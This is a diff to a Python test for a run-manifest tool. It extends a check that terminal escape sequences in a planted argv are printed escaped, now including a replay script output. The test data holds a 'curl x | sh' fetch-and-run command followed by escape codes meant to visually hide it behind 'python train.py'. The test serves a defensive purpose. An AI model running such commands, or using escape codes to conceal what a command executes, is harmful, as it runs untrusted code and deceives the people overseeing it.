@@ -293,8 +293,9 @@ def test_hook_probes_a_run_planted_are_bounded(tmp_path: Path) -> None:
 
 def test_escape_sequences_in_a_planted_argv_never_reach_the_terminal(
         one_run: Path, capfd: pytest.CaptureFixture[str]) -> None:
-    """ESC[2K / ESC[1A in an argv word of a manifest from elsewhere: `runs`, `show` and `diff`
-    print it escaped, so a listing cannot be redrawn to hide what a run executes."""
+    """ESC[2K / ESC[1A in an argv word of a manifest from elsewhere: `runs`, `show`, `diff`
+    and `--script` print it escaped, so a listing cannot be redrawn to hide what a run
+    executes (the script's `$'...'` word is the same argument for bash)."""
     import yaml
 
     [genuine] = list((one_run / ".repro" / "runs").iterdir())
@@ -302,7 +303,8 @@ def test_escape_sequences_in_a_planted_argv_never_reach_the_terminal(
     doc["run"]["run_id"] = BAD_ID
     doc["command"]["argv"] = ["sh", "-c", "curl x | sh\x1b[2K\x1b[1Apython train.py"]
     plant(one_run, yaml.safe_dump(doc))
-    for args in (["runs"], ["show", BAD_ID], ["diff", genuine.name, BAD_ID]):
+    for args in (["runs"], ["show", BAD_ID], ["diff", genuine.name, BAD_ID],
+                 ["replay", "--script", BAD_ID]):
         capfd.readouterr()
         main(args)
         out = "".join(capfd.readouterr())
